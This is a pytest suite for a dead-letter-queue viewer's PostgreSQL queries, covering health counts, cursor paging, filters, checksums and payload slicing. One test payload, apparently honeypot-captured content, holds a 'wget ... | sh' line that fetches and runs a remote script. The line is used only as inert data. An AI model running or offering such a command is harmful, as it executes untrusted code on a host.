"""The read side against a real PostgreSQL: figures equal what was inserted, pages give every event once."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import Engine, text

from dlq_tui.db import queries as q
from dlq_tui.db.models import EventFilter, EventRow, JsonText, PageCursor
from tests.support.factories import db_now, insert_breaker, insert_event, insert_events, insert_run, sha256_hex

DAY = timedelta(days=1)


# ------------------------------------------------------------------------------------------- health


def test_health_figures_equal_what_was_inserted(v7_engine: Engine) -> None:
    with v7_engine.begin() as conn:
        now = db_now(conn)
        # Pending: the true oldest is 3 days old; an older *resolved* event must not count as oldest.
        insert_event(conn, now=now, age=3 * DAY, priority=1, classification="malicious")
        insert_event(conn, now=now, age=2 * DAY, retry_count=6, lock="held")
        insert_event(conn, now=now, age=DAY, retry_count=5, lock="held", priority=3)
        insert_event(conn, now=now, age=timedelta(hours=2), lock="expired")  # expired lock: not locked
        insert_event(conn, now=now, age=timedelta(minutes=5), priority=7)
        insert_event(conn, now=now, age=9 * DAY, resolved=True, resolved_at=now - 9 * DAY + timedelta(seconds=100))
        insert_event(
            conn, now=now, age=DAY, resolved=True, resolved_at=now - DAY + timedelta(seconds=300), retry_count=9
        )
    with v7_engine.connect() as conn:
        f = q.fetch_health_figures(conn)
    assert f.pending_events == 5
    assert f.processed_events == 2
    assert f.avg_resolution_time_seconds == pytest.approx(200)
    assert f.oldest_pending_at == now - 3 * DAY
    assert f.newest_unresolved_event == now - timedelta(minutes=5)
    assert f.high_retry_events == 2  # the view counts retry_count > 5 over all events, resolved included
    assert f.locked_events == 2  # held locks only; the expired one is free
    assert f.malicious_events == 1
    assert f.high_priority_events == 2


def test_health_of_an_empty_queue(v7_engine: Engine) -> None:
    with v7_engine.connect() as conn:
        snap = q.fetch_health(conn)
    assert snap.figures.pending_events == 0
    assert snap.figures.oldest_pending_at is None
    assert snap.figures.avg_resolution_time_seconds is None
    assert snap.breakers == [] and snap.recent_runs == []
    assert snap.analysis.top_reasons == []
    assert isinstance(snap.db_now, datetime)


def test_breakers_and_recent_runs(v7_engine: Engine) -> None:
    with v7_engine.begin() as conn:
        now = db_now(conn)
        insert_breaker(
            conn, "dlq_main", "open", failure_count=7, failure_threshold=5, next_attempt_time=now + timedelta(minutes=3)
        )
        insert_breaker(conn, "aux", "closed")
        for n in range(12):
            insert_run(conn, started_at=now - timedelta(hours=n), processing_session_id=f"s{n}", failed_count=n)
    with v7_engine.connect() as conn:
        breakers = q.fetch_breakers(conn)
        runs = q.fetch_recent_runs(conn)
        three = q.fetch_recent_runs(conn, limit=3)
    assert [(b.name, b.state) for b in breakers] == [("aux", "closed"), ("dlq_main", "open")]
    main = breakers[1]
    assert (main.failure_count, main.failure_threshold) == (7, 5)
    assert main.next_attempt_time == now + timedelta(minutes=3)
    assert [r.session_id for r in runs] == [f"s{n}" for n in range(10)]  # newest first, 10 by default
    assert [r.failed for r in three] == [0, 1, 2]


def test_analysis_of_pending_events(v7_engine: Engine) -> None:
    events: list[dict[str, Any]] = (
        [{"reason": "json_parsing_failed", "retry_count": r} for r in (0, 2, 4, 6)]
        + [{"reason": "file_type_mismatch", "retry_count": 1, "classification": "malicious", "priority": 2}] * 2
        + [{"reason": "unknown", "priority": 9, "classification": "corrupted"}]
        + [{"reason": "never_counted", "resolved": True}] * 5  # resolved events are not part of the analysis
    )
    with v7_engine.begin() as conn:
        insert_events(conn, events)
    with v7_engine.connect() as conn:
        a = q.fetch_analysis(conn)
        top1 = q.fetch_analysis(conn, top=1)
    assert [(r.reason, r.count, r.avg_retries) for r in a.top_reasons] == [
        ("json_parsing_failed", 4, 3.0),
        ("file_type_mismatch", 2, 1.0),
        ("unknown", 1, 0.0),
    ]
    assert a.pending_by_priority == [(2, 2), (5, 4), (9, 1)]
    assert a.pending_by_classification == [(None, 4), ("malicious", 2), ("corrupted", 1)]
    assert [r.reason for r in top1.top_reasons] == ["json_parsing_failed"]


def test_known_reasons_are_pending_reasons_most_frequent_first(v7_engine: Engine) -> None:
    with v7_engine.begin() as conn:
        insert_events(conn, [{"reason": "b"}] * 3 + [{"reason": "a"}] + [{"reason": "gone", "resolved": True}])
    with v7_engine.connect() as conn:
        assert q.known_reasons(conn) == ["b", "a"]
        assert q.known_reasons(conn, limit=1) == ["b"]


# ------------------------------------------------------------------------------------------- paging


@pytest.fixture
def many_events(v7_engine: Engine) -> Iterator[list[dict[str, Any]]]:
    """1,200 events with every attribute a filter looks at, and many exact ties on created_at."""
    with v7_engine.begin() as conn:
        now = db_now(conn)
        specs: list[dict[str, Any]] = []
        for i in range(1200):
            specs.append(
                {
                    "priority": (1, 2, 3, 5, 5, 5, 5, 8, 10)[i % 9],
                    # Only 40 distinct times: ties must be broken by id, never lost or repeated.
                    "created_at": now - timedelta(minutes=i % 40, microseconds=i % 3),
                    "classification": (None, "malicious", "corrupted", "format_error", None)[i % 5],
                    "reason": ("json_parsing_failed", "file_type_mismatch", "payload_not_dict", "Unknown")[i % 4],
                    "source": (
                        "/var/log/cowrie/cowrie.json.2024-03-01",
                        "/srv/a_b/100%/events.json",
                        "/srv/axb/100x/events.json",
                        None,
                    )[i % 7 % 4],
                    "resolved": i % 11 == 0,
                    "lock": (None, "held", "expired", None, None, None)[i % 6],
                }
            )
        ids = insert_events(conn, specs, now=now)
        rows = conn.execute(
            text("SELECT id, processing_lock, lock_expires_at FROM dead_letter_events ORDER BY id")
        ).all()
    by_id = {r.id: r for r in rows}
    for spec, event_id in zip(specs, ids, strict=True):
        spec["id"] = event_id
        spec["held"] = by_id[event_id].lock_expires_at is not None and by_id[event_id].lock_expires_at > now
    yield specs


def _expected(specs: list[dict[str, Any]], flt: EventFilter) -> list[int]:
    def keep(s: dict[str, Any]) -> bool:
        if s["resolved"] and not flt.include_resolved:
            return False
        if flt.max_priority is not None and s["priority"] > flt.max_priority:
            return False
        if flt.classification is not None and s["classification"] != (flt.classification or None):
            return False
        if flt.reason is not None and s["reason"] != flt.reason:
            return False
        if flt.text:
            haystack = f"{s['source'] or ''}\n{s['reason']}".lower()
            if flt.text.lower() not in haystack:
                return False
        if flt.lock == "locked" and not s["held"]:
            return False
        return not (flt.lock == "free" and s["held"])

    matching = [s for s in specs if keep(s)]
    matching.sort(key=lambda s: (s["priority"], s["created_at"], s["id"]))
    return [s["id"] for s in matching]


FILTERS = [
    EventFilter(),
    EventFilter(include_resolved=True),
    EventFilter(max_priority=3),
    EventFilter(classification="malicious"),
    EventFilter(classification=""),
    EventFilter(reason="file_type_mismatch"),
    EventFilter(text="UNKNOWN"),  # case-insensitive, matches the reason "Unknown"
    EventFilter(text="100%"),  # % is literal: /srv/axb/100x must not match
    EventFilter(text="a_b"),  # _ is literal: axb must not match
    EventFilter(text="\\"),  # the LIKE escape character itself, matches nothing here
    EventFilter(lock="locked"),
    EventFilter(lock="free"),
    EventFilter(max_priority=5, classification="", lock="free", text="cowrie", include_resolved=True),
]


def _walk_forward(conn: Any, flt: EventFilter, limit: int) -> list[EventRow]:
    seen: list[EventRow] = []
    page = q.fetch_page(conn, flt, limit=limit)
    seen += page.rows
    while page.next_cursor is not None:
        assert len(page.rows) == limit  # only the last page may be short
        page = q.fetch_page(conn, flt, after=page.next_cursor, limit=limit)
        seen += page.rows
    return seen


@pytest.mark.parametrize("flt", FILTERS, ids=repr)
def test_paging_forwards_and_backwards_gives_each_event_once_in_order(
    v7_engine: Engine, many_events: list[dict[str, Any]], flt: EventFilter
) -> None:
    expected = _expected(many_events, flt)
    assert expected or flt.text == "\\", "the fixture should give every filter something to find"
    with v7_engine.connect() as conn:
        forward = _walk_forward(conn, flt, limit=97)
        assert [r.id for r in forward] == expected
        if not expected:
            return
        # Backwards from the last row, as a bounded window scrolls up: every earlier row once, in order.
        backward: list[EventRow] = [forward[-1]]
        cursor: PageCursor | None = forward[-1].cursor
        while cursor is not None:
            page = q.fetch_page(conn, flt, before=cursor, limit=97)
            backward = page.rows + backward
            cursor = page.rows[0].cursor if len(page.rows) == 97 else None
        assert [r.id for r in backward] == expected


def test_page_rows_carry_what_the_table_shows(v7_engine: Engine, many_events: list[dict[str, Any]]) -> None:
    with v7_engine.connect() as conn:
        rows = q.fetch_page(conn, EventFilter(include_resolved=True), limit=2000).rows
    assert len(rows) == 1200
    states = {r.id: r.lock_state for r in rows}
    for spec in many_events:
        want = "held" if spec["held"] else "expired" if spec["lock"] == "expired" else "free"
        assert states[spec["id"]] == want
    assert {r.resolved for r in rows} == {True, False}


def test_first_page_of_nothing(v7_engine: Engine) -> None:
    with v7_engine.connect() as conn:
        page = q.fetch_page(conn, EventFilter())
    assert page.rows == [] and page.next_cursor is None


def test_page_starting_at_an_event(v7_engine: Engine, many_events: list[dict[str, Any]]) -> None:
    flt = EventFilter()
    expected = _expected(many_events, flt)
    target = expected[500]
    with v7_engine.connect() as conn:
        page = q.page_starting_at(conn, flt, target, limit=50)
        assert page is not None
        assert [r.id for r in page.rows] == expected[500:550]
        assert page.next_cursor is not None
        following = q.fetch_page(conn, flt, after=page.next_cursor, limit=50)
        assert [r.id for r in following.rows] == expected[550:600]
        resolved_id = next(s["id"] for s in many_events if s["resolved"])
        assert q.page_starting_at(conn, flt, resolved_id) is None  # excluded by the filter
        assert q.page_starting_at(conn, EventFilter(include_resolved=True), resolved_id) is not None
        assert q.page_starting_at(conn, flt, 10_000_000) is None
        last = q.page_starting_at(conn, flt, expected[-1])
        assert last is not None and [r.id for r in last.rows] == [expected[-1]] and last.next_cursor is None


def test_fetch_page_rejects_after_and_before_together(v7_engine: Engine) -> None:
    cursor = PageCursor(5, datetime.now().astimezone(), 1)
    with v7_engine.connect() as conn, pytest.raises(ValueError):
        q.fetch_page(conn, EventFilter(), after=cursor, before=cursor)


# ------------------------------------------------------------------------------------------- detail


def test_event_detail_checksum_status(v7_engine: Engine) -> None:
    payload = '{"malformed_content": "wget http://192.0.2.1/x.sh | sh",   "original_offset": 3}'  # odd spacing kept
    with v7_engine.begin() as conn:
        good = insert_event(conn, payload_text=payload, payload_checksum="auto")
        bad = insert_event(conn, payload_text=payload, payload_checksum=sha256_hex(payload + " "))
        none = insert_event(conn, payload_text=payload)
    with v7_engine.connect() as conn:
        d_good, d_bad, d_none = (q.fetch_event(conn, i) for i in (good, bad, none))
    assert d_good is not None and d_bad is not None and d_none is not None
    assert d_good.computed_checksum == sha256_hex(payload)
    assert d_good.payload_text == payload  # the stored text exactly, spacing and key order kept
    assert (d_good.checksum_status, d_bad.checksum_status, d_none.checksum_status) == ("match", "mismatch", "none")


def test_event_detail_has_every_column(v7_engine: Engine) -> None:
    history = [{"timestamp": "2024-03-01T00:00:00Z", "error_type": "repair_failed", "retry_count": 1, "extra": [1]}]
    attempts = [{"timestamp": "t", "method": "repair_failure", "success": False, "attempts": 1}]
    with v7_engine.begin() as conn:
        event_id = insert_event(
            conn,
            ingest_id="ing-1",
            source_offset=42,
            metadata_json={"json_parsing_failed": True},
            error_history=history,
            processing_attempts=attempts,
            idempotency_key="k" * 64,
            classification="corrupted",
            priority=2,
            retry_count=3,
            lock="held",
        )
    with v7_engine.connect() as conn:
        d = q.fetch_event(conn, event_id)
        assert q.fetch_event(conn, 999_999) is None
    assert d is not None
    assert (d.row.id, d.row.priority, d.row.classification, d.row.retry_count) == (event_id, 2, "corrupted", 3)
    assert (d.ingest_id, d.row.source_offset, d.idempotency_key) == ("ing-1", 42, "k" * 64)
    assert d.row.lock_state == "held"
    assert json.loads(d.metadata_text or "") == {"json_parsing_failed": True}
    assert d.error_history == history
    assert d.processing_attempts == attempts
    assert d.updated_at is not None


def test_payload_is_cut_server_side_with_totals_and_sliced(v7_engine: Engine) -> None:
    body = "é€x" * 20_000  # 60,000 characters, 2+3+1 bytes each group
    payload = json.dumps({"malformed_content": body}, ensure_ascii=False)
    with v7_engine.begin() as conn:
        event_id = insert_event(conn, payload_text=payload, payload_checksum="auto")
    with v7_engine.connect() as conn:
        d = q.fetch_event(conn, event_id, payload_chars=1000)
        whole = q.fetch_event(conn, event_id, payload_chars=10**6)
        middle = q.fetch_payload_slice(conn, event_id, 30_000, 25)
        past_end = q.fetch_payload_slice(conn, event_id, 10**6, 10)
    assert d is not None and whole is not None
    assert d.payload_text == payload[:1000]
    assert d.payload_total_chars == len(payload)
    assert d.payload_total_bytes == len(payload.encode())
    assert d.checksum_status == "match"  # verified over the whole payload, not the cut
    assert whole.payload_text == payload
    assert middle == payload[30_000:30_025]
    assert past_end == ""


def test_pathological_audit_json_comes_back_as_text(v7_engine: Engine) -> None:
    deep = "[" * 3000 + "1" + "]" * 3000  # jsonb accepts it; Python's json parser would overflow
    with v7_engine.begin() as conn:
        event_id = insert_event(conn, error_history=deep)
    with v7_engine.connect() as conn:
        d = q.fetch_event(conn, event_id)
    assert d is not None
    assert isinstance(d.error_history, JsonText) and d.error_history.text.startswith("[[[")
    assert d.error_history.total_bytes == len(deep)
